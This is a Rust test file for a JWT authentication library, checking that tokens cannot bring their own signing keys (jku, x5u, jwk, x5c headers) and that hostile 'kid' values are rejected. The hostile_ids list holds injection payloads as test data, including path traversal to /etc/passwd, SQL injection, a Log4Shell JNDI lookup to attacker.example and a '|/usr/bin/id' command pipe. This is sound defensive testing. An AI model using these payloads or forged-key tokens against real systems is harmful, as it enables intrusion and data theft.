//! Requirement 13: a token does not bring its key (RFC 8725 §3.10), and `kid` is not trusted.

use std::io::ErrorKind::WouldBlock;
use std::net::TcpListener;

use serde_json::{Value, json};
use tower_jwt_auth::testing::{TestIssuer, TestKey, TokenBuilder};
use tower_jwt_auth::{Algorithm, ErrorKind, JwtAuthLayer};

use crate::support::tokio;
use crate::support::{
    AUDIENCE, HEADER, default_key, encode, key, layer, payload, send, token, token_of,
};

/// Returns tokens of the attacker's key that offer this key in every way.
fn offers(
    token: &TokenBuilder,
    attacker: &TestKey,
    url: &str,
) -> Vec<(&'static str, TokenBuilder)> {
    let token = || token.clone().key(attacker);
    let chain = json!([encode(attacker.der())]);
    vec![
        ("jku", token().header("jku", url)),
        ("x5u", token().header("x5u", url)),
        ("jwk", token().header("jwk", attacker.jwk())),
        ("x5c", token().header("x5c", &chain)),
        (
            "x5t",
            token()
                .header("x5t", "AAAA")
                .header("x5t#S256", "AAAA")
                .header("x5u", url),
        ),
        (
            "all",
            token()
                .header("jku", url)
                .header("x5u", url)
                .header("jwk", attacker.jwk())
                .header("x5c", chain),
        ),
        (
            "no kid",
            token()
                .without_header("kid")
                .header("jwk", attacker.jwk())
                .header("jku", url),
        ),
        (
            "kid as a URL",
            token().header("kid", url).header("jku", url),
        ),
    ]
}

#[tokio::test]
async fn with_configured_keys_a_key_from_the_token_is_not_used() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let url = format!("http://{}/jwks", listener.local_addr().unwrap());
    for id in ["ES256", "attacker"] {
        let attacker = TestKey::generate(Algorithm::ES256).with_key_id(id);
        for (name, token) in offers(&token(), &attacker, &url) {
            let answer = send(&layer(), &token.sign()).await.named((id, name));
            let kind = answer.kind().unwrap();
            assert!(
                matches!(kind, ErrorKind::InvalidSignature | ErrorKind::UnknownKey),
                "{kind:?}"
            );
            answer.invalid_token(kind);
        }
    }
    assert_eq!(listener.accept().unwrap_err().kind(), WouldBlock);
}

#[tokio::test]
async fn with_fetched_keys_a_key_from_the_token_is_not_used() {
    let (honest, attacker) = (
        TestIssuer::start().await.unwrap(),
        TestIssuer::start().await.unwrap(),
    );
    let layer = JwtAuthLayer::discover(honest.issuer(), AUDIENCE)
        .await
        .unwrap();
    let theirs = attacker.key(Algorithm::ES256).unwrap();
    let known = theirs
        .clone()
        .with_key_id(honest.key(Algorithm::ES256).unwrap().key_id());
    for (forger, kind) in [
        (theirs, ErrorKind::UnknownKey),
        (known, ErrorKind::InvalidSignature),
    ] {
        let url = attacker.jwks_uri();
        for (name, token) in offers(&honest.token(), &forger, &url).into_iter().take(6) {
            send(&layer, &token.sign())
                .await
                .named(name)
                .invalid_token(kind);
        }
    }
    assert_eq!(
        (attacker.jwks_fetches(), attacker.metadata_fetches()),
        (0, 0)
    );
}

// A valid token may have these parameters. They are ignored.
#[tokio::test]
async fn a_valid_token_may_have_any_of_these_parameters() {
    let unknown_key = TestKey::generate(Algorithm::ES256);
    for (name, token) in offers(&token(), &unknown_key, "http://127.0.0.1:1/")
        .into_iter()
        .take(6)
    {
        let answer = send(&layer(), &token.key(default_key()).sign()).await;
        answer.named(name).accepted();
    }
}

fn hostile_ids() -> Vec<String> {
    let mut ids: Vec<String> = [
        "",
        "../../../../dev/null",
        "/etc/passwd",
        "..\\..\\windows\\win.ini",
        "' OR 1=1 --",
        "x' UNION SELECT 'key",
        "\0",
        "ES256\0",
        "ES256 ",
        "es256",
        "ES256\n",
        "${jndi:ldap://attacker.example/}",
        "|/usr/bin/id",
        "%00",
        "http://127.0.0.1/jwks",
        "\u{202e}652SE",
        "\u{feff}ES256",
        "ＥＳ256",
    ]
    .map(ToOwned::to_owned)
    .into();
    ids.push("k".repeat(10 * 1024));
    ids
}

#[tokio::test]
async fn with_configured_keys_a_hostile_key_id_is_an_unknown_key() {
    for id in hostile_ids() {
        let token = token_of(&default_key().clone().with_key_id(&id)).sign();
        send(&layer(), &token)
            .await
            .named(&id)
            .invalid_token(ErrorKind::UnknownKey);
    }
}

#[tokio::test]
async fn with_fetched_keys_a_hostile_key_id_is_an_unknown_key() {
    let issuer = TestIssuer::start().await.unwrap();
    let layer = JwtAuthLayer::discover(issuer.issuer(), AUDIENCE)
        .await
        .unwrap();
    for id in hostile_ids() {
        let token = issuer.token().header("kid", &id).sign();
        send(&layer, &token)
            .await
            .named(&id)
            .invalid_token(ErrorKind::UnknownKey);
    }
    send(&layer, &issuer.token().sign()).await.accepted();
    // Each of them could be a new key, but the refetch limit applies.
    assert!(
        issuer.jwks_fetches() <= 3,
        "{} fetches",
        issuer.jwks_fetches()
    );
}

#[tokio::test]
async fn a_token_with_a_key_id_of_a_hundred_kilobytes_is_too_large() {
    let token = token().header("kid", "k".repeat(100 * 1024)).sign();
    send(&layer(), &token)
        .await
        .invalid_token(ErrorKind::TokenTooLarge);
}

// RFC 7515 §4.1.4
#[tokio::test]
async fn a_key_id_that_is_not_a_string_is_malformed() {
    for id in [
        Value::Null,
        json!(1),
        json!(true),
        json!(["ES256"]),
        json!({"ES256": 1}),
    ] {
        let token = token().header("kid", &id).sign();
        send(&layer(), &token)
            .await
            .named(&id)
            .invalid_token(ErrorKind::MalformedToken);
    }
}

#[tokio::test]
async fn a_key_id_written_with_escapes_is_the_same() {
    let header = HEADER.replace("\"kid\":\"ES256\"", "\"kid\":\"\\u0045S256\"");
    assert_ne!(header, HEADER);
    let token = default_key().sign_raw(&header, payload(&[]).as_bytes());
    assert_eq!(
        send(&layer(), &token).await.accepted().key_id(),
        Some("ES256")
    );
}

#[tokio::test]
async fn a_token_without_a_key_id_is_verified_with_the_keys_of_its_algorithm() {
    let claims = send(&layer(), &token().without_header("kid").sign())
        .await
        .accepted();
    assert_eq!(claims.key_id(), None);
    let other = token_of(key(Algorithm::Ed25519))
        .without_header("kid")
        .sign();
    send(&layer(), &other)
        .await
        .invalid_token(ErrorKind::AlgorithmNotAllowed);
}
